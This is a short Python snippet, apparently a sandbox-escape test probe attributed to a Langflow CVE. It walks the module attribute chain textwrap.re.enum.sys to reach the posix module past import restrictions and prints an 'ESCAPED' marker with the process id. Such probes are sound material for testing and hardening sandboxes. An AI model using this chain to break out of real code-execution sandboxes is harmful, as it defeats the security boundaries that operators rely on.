# technique: a chain of modules: textwrap.re.enum.sys
# goal: import
# source: langflow, CVE-2026-10561
import textwrap
print('ESCAPED pid=%d' % textwrap.re.enum.sys.modules['posix'].getpid())
